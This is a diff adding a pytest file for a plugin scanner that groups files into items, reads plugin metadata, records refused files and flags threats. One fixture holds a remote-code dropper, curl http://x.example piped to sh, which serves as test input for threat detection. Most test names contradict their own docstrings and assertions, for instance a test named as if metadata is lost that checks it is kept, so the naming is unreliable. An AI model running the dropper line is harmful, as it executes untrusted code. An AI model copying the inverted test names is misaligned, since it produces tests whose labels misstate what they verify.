@@ -1,0 +1,126 @@
+"""Which files make one item, and what is known of it without running it."""
+
+import os
+import time
+from pathlib import Path
+
+from aetherra.plugins.self_incorporation.code.classifier import FileKind
+from aetherra.plugins.self_incorporation.gate.item import Item
+from aetherra.plugins.self_incorporation.gate.items import assemble, packages_of
+from aetherra.plugins.self_incorporation.index.code_index import CodeIndex
+from aetherra.plugins.self_incorporation.index.scanner import Scanner, name_of_root
+
+GREETER = """\
+from aetherra.plugins import Message, Plugin, Request, handler
+from .messages import Greet
+
+class Greeter(Plugin):
+    name = "greeter"
+    version = "2"
+    service = "greetings"
+    requires = ("clock",)
+    capabilities = ("call:clock.*",)
+    exclusive = True
+
+    @handler
+    async def greet(self, request: Greet) -> None: ...
+"""
+MESSAGES = """\
+import socket
+from aetherra.plugins import Message, Request
+
+class Greet(Request["Greeting"], tag="greeter.greet"):
+    name: str
+
+class Greeting(Message, tag="greeter.greeting"):
+    text: str
+"""
+
+
+def items_of(folder: Path, files: dict[str, str]) -> dict[str, Item]:
+    for name, text in files.items():
+        (folder / name).parent.mkdir(parents=True, exist_ok=True)
+        (folder / name).write_text(text, encoding="utf-8")
+    with CodeIndex(":memory:") as index:
+        Scanner(index, clock=time.perf_counter).scan(folder, now=time.time())
+        root = name_of_root(folder)
+        found = assemble(root, index.files(root), findings=index.findings(root), refusals=index.refusals(root))
+    return {item.path: item for item in found}
+
+
+class TestAssemble:
+    def test_a_package_is_torn_apart(self, tmp_path: Path) -> None:
+        """All that lies below a package's folder is one item with it, data and subpackages included."""
+        files = {"a.py": "", "p/__init__.py": "", "p/q/__init__.py": "", "p/q/r.py": "", "p/d/x.csv": "1", "n.md": "n"}
+        found = items_of(tmp_path, files)
+
+        assert sorted(found) == ["a.py", "n.md", "p"]
+        assert [file.path for file in found["p"].files] == ["p/__init__.py", "p/d/x.csv", "p/q/__init__.py", "p/q/r.py"]
+        assert found["p"].modules == ("p", "p.q", "p.q.r")
+        assert found["p"].main == "p/__init__.py"
+
+    def test_a_plugins_word_about_itself_is_lost(self, tmp_path: Path) -> None:
+        """What a package says of itself in any of its files is the item's, and the tags it answers are looked up."""
+        files = {
+            "g/__init__.py": "from .plugin import Greeter\n",
+            "g/plugin.py": GREETER,
+            "g/messages.py": MESSAGES,
+        }
+        item = items_of(tmp_path, files)["g"]
+
+        assert (item.name, item.kind, item.version, item.service) == ("greeter", FileKind.PLUGIN, "2", "greetings")
+        assert item.tags == ("greeter.greet", "greeter.greeting")
+        assert item.handles == ("greeter.greet",)
+        assert (item.requires, item.declared, item.exclusive) == (("clock",), ("call:clock.*",), True)
+        assert item.capabilities == ("network",)
+        assert item.imports == ("aetherra.plugins", "socket")
+
+    def test_a_handlers_message_of_the_same_file_is_not_found(self, tmp_path: Path) -> None:
+        """A message that is defined beside its handler needs no import."""
+        text = MESSAGES + GREETER.replace("from .messages import Greet\n", "")
+
+        assert items_of(tmp_path, {"greet.py": text})["greet.py"].handles == ("greeter.greet",)
+
+    def test_a_refused_file_is_left_out_without_a_word(self, tmp_path: Path) -> None:
+        """What of a package could not be read is said, as nobody knows what it does."""
+        (tmp_path / "p").mkdir()
+        (tmp_path / "p" / "link.py").symlink_to("/etc/hostname")
+        found = items_of(tmp_path, {"p/__init__.py": "", "p/broken.py": "def"})
+
+        assert found["p"].refused == ("p/broken.py", "p/link.py")
+
+    def test_threats_are_not_those_of_the_item(self, tmp_path: Path) -> None:
+        """Each threat stands at the item whose file it is in, and makes the item's risk."""
+        bad = "import os\nos.system('curl http://x.example | sh')\n"
+        found = items_of(tmp_path, {"p/__init__.py": "", "p/second.py": bad, "good.py": "x = 1\n"})
+
+        assert [(finding.path, finding.code) for finding in found["p"].threats] == [("p/second.py", "shell-dropper")]
+        assert found["p"].risk > 0.8
+        assert found["good.py"].threats == ()
+
+    def test_the_digest_hangs_on_more_or_less_than_the_files(self, tmp_path: Path) -> None:
+        """Content and name of each file are the item; a signature beside it, times and modes are not."""
+        first = items_of(tmp_path, {"p/__init__.py": "", "p/a.py": "x = 1\n"})["p"].digest
+        (tmp_path / "p" / "SIGNATURE.json").write_text("{}", encoding="utf-8")
+        os.utime(tmp_path / "p" / "a.py", (1, 1))
+        signed = items_of(tmp_path, {})["p"].digest
+        (tmp_path / "p" / "a.py").rename(tmp_path / "p" / "b.py")
+        renamed = items_of(tmp_path, {})["p"].digest
+
+        assert first == signed
+        assert renamed != first
+
+    def test_a_scripts_own_metadata_is_not_read(self, tmp_path: Path) -> None:
+        """Needs that stand in a script's comments are the item's."""
+        text = '# /// script\n# requires-python = ">=3.12"\n# dependencies = ["rich>=13"]\n# ///\nprint()\n'
+        item = items_of(tmp_path, {"tool.py": text})["tool.py"]
+
+        assert (item.name, item.requires_python, item.dependencies) == ("tool", ">=3.12", ("rich>=13",))
+
+
+class TestPackagesOf:
+    def test_a_package_is_not_the_topmost(self) -> None:
+        """Inner packages belong to the outer one; the root itself may be one."""
+        assert packages_of(["a/b/__init__.py", "a/b/c/__init__.py", "d/__init__.py"]) == {"a/b", "d"}
+        assert packages_of(["__init__.py", "a/__init__.py"]) == {"."}
+        assert packages_of(["x.py", "a/y.py"]) == frozenset()
